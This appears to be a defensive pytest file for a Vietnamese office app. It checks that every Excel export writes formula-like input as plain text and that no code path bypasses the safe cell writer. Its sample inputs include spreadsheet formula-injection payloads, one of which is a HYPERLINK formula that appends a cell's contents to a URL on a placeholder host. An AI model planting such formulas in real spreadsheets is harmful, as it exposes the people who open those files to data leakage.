"""Exports never write live formulas: text that looks like a formula stays text.

Every Excel file the program writes goes through `desktop.output.xlsx_cells`; these tests write
each export with hostile text (`=HYPERLINK(…)`, `+`, `-`, `@`, an error code), open the file with
openpyxl and check that every such cell is a text cell holding exactly what was typed, and that
numbers are still numbers. A scan of the source fails on any other way of putting a value into a
worksheet cell.
"""
from __future__ import annotations

import ast
import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.output import xlsx_cells
from tests.conftest import ROOT
from tests.quiz.conftest import _quiz_template, qdata_dir  # noqa: F401  (fixtures)

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
    "#N/A",
]


def _cells(path: Path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def assert_no_formulas(path: Path, *expected_texts: str) -> None:
    """No cell of the file is a formula; each expected text is in a text cell, unchanged."""
    found = {}
    for sheet, cell in _cells(path):
        assert cell.data_type != "f", f"{path.name} {sheet}!{cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str):
            found.setdefault(cell.value, cell.data_type)
            for text in expected_texts:
                if text in cell.value:
                    found.setdefault(text, cell.data_type)
    for text in expected_texts:
        assert text in found, f"{text!r} not written to {path.name}"
        assert found[text] == "s", (text, found[text])


def test_the_cell_writer_keeps_text_as_text_and_numbers_as_numbers(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    xlsx_cells.put_row(ws, 1, HOSTILE)
    xlsx_cells.put_row(ws, 2, [7, 2.5, True, dt.date(2026, 1, 5), None, "007",
                               "ký tự\x01điều khiển", float("nan")])
    xlsx_cells.put(ws, 3, 1, "x" * 40_000)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    back = load_workbook(path).active
    for c, text in enumerate(HOSTILE, start=1):
        cell = back.cell(row=1, column=c)
        assert (cell.value, cell.data_type) == (text, "s")
    row2 = [back.cell(row=2, column=c) for c in range(1, 9)]
    assert row2[0].value == 7 and row2[0].data_type == "n"
    assert row2[1].value == 2.5 and row2[1].data_type == "n"
    assert row2[2].value is True
    assert row2[3].value.date() == dt.date(2026, 1, 5)
    assert row2[4].value is None
    assert (row2[5].value, row2[5].data_type) == ("007", "s")
    assert row2[6].value == "ký tựđiều khiển"
    assert (row2[7].value, row2[7].data_type) == ("nan", "s")
    assert len(back.cell(row=3, column=1).value) == xlsx_cells.EXCEL_MAX_TEXT


# --- the scan: no other way into a cell ---------------------------------------------------------

def _violations(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    out = []
    for node in ast.walk(tree):
        where = f"{path.relative_to(ROOT)}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr == "cell" and (len(node.args) > 2 or
                                             any(k.arg == "value" for k in node.keywords)):
                out.append(f"{where}: ws.cell(..., value=...)")
            if node.func.attr == "append" and node.args and \
                    isinstance(node.args[0], (ast.List, ast.Tuple, ast.ListComp)) and \
                    isinstance(node.func.value, ast.Name) and \
                    node.func.value.id in _sheet_names(tree):
                out.append(f"{where}: worksheet.append(...)")
        if isinstance(node, ast.Assign):
            for t in node.targets:
                if isinstance(t, ast.Attribute) and t.attr == "value":
                    out.append(f"{where}: cell.value = ...")
                if isinstance(t, ast.Subscript) and isinstance(t.slice, ast.Constant) and \
                        isinstance(t.slice.value, str) and t.slice.value[:1].isalpha() and \
                        t.slice.value[-1:].isdigit():
                    out.append(f"{where}: ws[\"{t.slice.value}\"] = ...")
    return out


def _sheet_names(tree) -> set[str]:
    """Names bound to a worksheet: `x = wb.active`, `x = wb.create_sheet(...)`."""
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and len(node.targets) == 1 and \
                isinstance(node.targets[0], ast.Name):
            v = node.value
            if (isinstance(v, ast.Attribute) and v.attr == "active") or (
                    isinstance(v, ast.Call) and isinstance(v.func, ast.Attribute)
                    and v.func.attr == "create_sheet"):
                names.add(node.targets[0].id)
    return names


def test_every_excel_writer_goes_through_the_cell_writer():
    writers = [p for folder in ("desktop", "sync") for p in (ROOT / folder).rglob("*.py")
               if "openpyxl" in p.read_text(encoding="utf-8") and p.name != "xlsx_cells.py"]
    assert len(writers) >= 8
    problems = [v for p in writers for v in _violations(p)]
    assert problems == []


# --- each export, with hostile text in the records ----------------------------------------------

LINK = HOSTILE[0]
NAME = '=HYPERLINK("http://example.invalid/","Nguyễn Văn An")'  # names hold no digits


def _cli(data_dir, *args) -> None:
    from tests.cli_auth import run_cli

    assert run_cli(["--data-dir", str(data_dir), *[str(a) for a in args]]) == 0


def test_staff_export_writes_names_as_text(data_dir, store, tmp_path):
    from desktop.models.staff import StaffRepository

    repo = StaffRepository(store)
    repo.add({"staff_code": "CB001", "full_name": NAME, "department": "+Tổ Thu",
              "position": "-Viên chức"})
    repo.add({"staff_code": "CB002", "full_name": "@Trần Bình", "phone": "0912345678"})
    store.close(clean=False)
    _cli(data_dir, "staff", "export", tmp_path / "cb.xlsx")
    assert_no_formulas(tmp_path / "cb.xlsx", NAME, "+Tổ Thu", "-Viên chức", "@Trần Bình",
                       "0912345678")


def test_minutes_export_writes_subjects_as_text(data_dir, store, tmp_path):
    from desktop.models import minutes as M
    from tests.minutes.helpers import sample

    M.create(store, sample(subject=LINK, place="+Phòng họp", chair="-Chủ trì"), complete=True)
    store.close(clean=False)
    _cli(data_dir, "minutes", "export", "--out", tmp_path / "bb.xlsx")
    assert_no_formulas(tmp_path / "bb.xlsx", LINK, "+Phòng họp", "-Chủ trì")


def test_document_register_export_writes_titles_as_text(store, tmp_path):
    from desktop.output.iso.documents_xlsx import export_documents
    from desktop.models.iso.documents import DocumentRepository

    repo = DocumentRepository(store)
    repo.add({"code": "QT-01", "title": LINK, "kind": "form", "department": "@Tổ Thu"})
    path = export_documents(tmp_path / "tl.xlsx", repo.list(), "=BHXH")
    assert_no_formulas(path, LINK, "@Tổ Thu", "=BHXH")


def test_team_list_export_writes_names_as_text(store, tmp_path):
    from desktop.output.iso.team_list import export_team_xlsx, team_list_data
    from desktop.models.iso.team import TeamRepository

    TeamRepository(store).add({"full_name": NAME, "role": "member", "position": "+Thư ký",
                               "work_unit": "-Công ty"})
    path = export_team_xlsx(tmp_path / "to.xlsx", team_list_data(store))
    assert_no_formulas(path, NAME, "+Thư ký", "-Công ty")


def test_annual_report_export_writes_section_text_as_text(store, tmp_path):
    from desktop.output.iso.annual_report import write_xlsx
    from desktop.models.iso.annual_report import ReportRepository, section_template
    from desktop.models.iso.report_data import build_report

    sections = [s.as_dict() for s in section_template(store)]
    sections[0]["text"] = LINK + "\n@SUM(1,2)"
    ReportRepository(store).save(2026, {"sections": sections, "recipient": "=Tỉnh"})
    path = write_xlsx(tmp_path / "bc.xlsx", build_report(store, 2026))
    assert_no_formulas(path, LINK, "@SUM(1,2)", "=Tỉnh")


def test_quiz_results_and_coverage_exports_write_names_as_text(qdata_dir, tmp_path):
    from desktop.models.datafile import open_store
    from desktop.models.db import DB_FILENAME
    from desktop.models.staff import StaffRepository
    from tests.quiz.conftest import make_session

    store = open_store(qdata_dir / DB_FILENAME, actor="admin")
    StaffRepository(store).add({"staff_code": "CB099", "full_name": NAME, "department": "+Tổ"})
    session = make_session(store)
    store.close(clean=False)
    _cli(qdata_dir, "quiz", "results", "--session", session.id, "--xlsx", tmp_path / "kq.xlsx")
    assert_no_formulas(tmp_path / "kq.xlsx", NAME, "+Tổ")
    from desktop.output.quiz.results_xlsx import write_coverage
    from desktop.models.quiz.coverage import roster_coverage

    store = open_store(qdata_dir / DB_FILENAME, actor="admin")
    try:
        path = write_coverage(tmp_path / "bp.xlsx", roster_coverage(store), "@BHXH")
    finally:
        store.close(clean=False)
    assert_no_formulas(path, NAME, "@BHXH")


def test_question_bank_export_writes_question_text_as_text(tmp_path):
    from desktop.output.quiz.formats import xlsx

    q = {"key": "Q1", "topic": "T1", "clause": "=4.1", "difficulty": 2, "text": LINK,
         "options": ["=A", "+B", "-C", "@D"], "correct": [0], "explanation": "#N/A"}
    path = xlsx.write(tmp_path / "nh.xlsx", [q], {"T1": "-Chủ đề"})
    assert_no_formulas(path, LINK, "=A", "+B", "-C", "@D", "#N/A", "=4.1", "-Chủ đề")
    back = xlsx.parse(path)
    assert back.items[0].text == LINK


def test_province_overview_export_writes_names_as_text(tmp_path):
    from sync.overview import write_overview_xlsx

    path = write_overview_xlsx(tmp_path / "th.xlsx", "=Tổng hợp", ["Mã", "Đơn vị", "Số"],
                               [["H01", LINK, 3], ["H02", "@Huyện", 4.5]],
                               [["", "", ""], ["", "late", ""]], subtitle="+năm")
    assert_no_formulas(path, "=Tổng hợp", LINK, "@Huyện", "+năm")
    ws = load_workbook(path).active
    numbers = [c.value for row in ws.iter_rows() for c in row if c.data_type == "n"
               and c.value is not None]
    assert 3 in numbers and 4.5 in numbers
